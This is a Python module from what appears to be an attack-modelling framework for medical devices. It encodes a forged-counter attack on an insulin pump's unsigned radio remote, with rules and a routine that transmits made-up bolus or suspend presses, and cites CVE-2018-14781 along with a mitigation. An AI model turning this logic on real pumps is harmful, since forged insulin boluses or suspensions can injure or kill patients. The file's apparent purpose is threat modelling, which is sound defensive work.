"""Forge the next counter: make up the remote's next press; its counter is plain and unsigned."""

from __future__ import annotations

from banting.attacks.sources import FOB, LI_2011
from banting.interfaces import Grip, Program, Transmit, Wait
from banting.schema.facts import Fact, Rule, goal_fact, position_fact
from banting.schema.question import Goal, Position
from banting.schema.verdict import TechniqueShown

__all__ = ["FORGE_COUNTER", "ForgeNextCounter"]

_BETWEEN_MS = 2_000
_FIRST_COUNTER = 0x80  # anything but the last one accepted; the counter is not authenticated
_NEAR = position_fact(Position.RADIO)


class ForgeNextCounter:
    """Presses that the remote never sent."""

    shown = TechniqueShown(
        id="forge-next-counter",
        title="Forge the remote's next press",
        what="a transmitter sends presses with the remote's identifier and a counter of its own; "
        "nothing in them is secret or signed",
        stop_it="turn the remote option off (it is off by default), or delete the remote's number",
        cwe=("CWE-290", "CWE-294"),
        cve=("CVE-2018-14781",),
        emb3d=("TID-406", "TID-407"),
        attack_ics=("T0860", "T0855"),
        sources=(FOB, LI_2011),
    )
    rules: tuple[Rule, ...] = (
        Rule(
            id="forge-remote-bolus",
            technique="forge-next-counter",
            needs=frozenset(
                {
                    _NEAR,
                    Fact("knows.remote-id"),
                    Fact("pump.hears-remote"),
                    Fact("pump.easy-bolus"),
                }
            ),
            gives=goal_fact(Goal.G1),
            says="send made-up bolus and confirm presses with the remote's identifier",
        ),
        Rule(
            id="forge-remote-suspend",
            technique="forge-next-counter",
            needs=frozenset({_NEAR, Fact("knows.remote-id"), Fact("pump.hears-remote")}),
            gives=goal_fact(Goal.G3),
            says="send a made-up suspend press with the remote's identifier",
        ),
    )

    def perform(self, rule: Rule, grip: Grip) -> Program:
        """Wait for the hour and press."""
        remote_id = grip.knows("remote-id")
        buttons = ("bolus", "act") if rule.gives == goal_fact(Goal.G1) else ("suspend",)
        yield Wait(until_ms=grip.strike_ms)
        for index, button in enumerate(buttons):
            press = grip.dialect.press(remote_id, button, _FIRST_COUNTER + index)
            yield Transmit(link="radio", exchange=press)
            yield Wait(until_ms=grip.now_ms + _BETWEEN_MS)
        return f"sent {len(buttons)} presses that the remote never made"


FORGE_COUNTER = ForgeNextCounter()
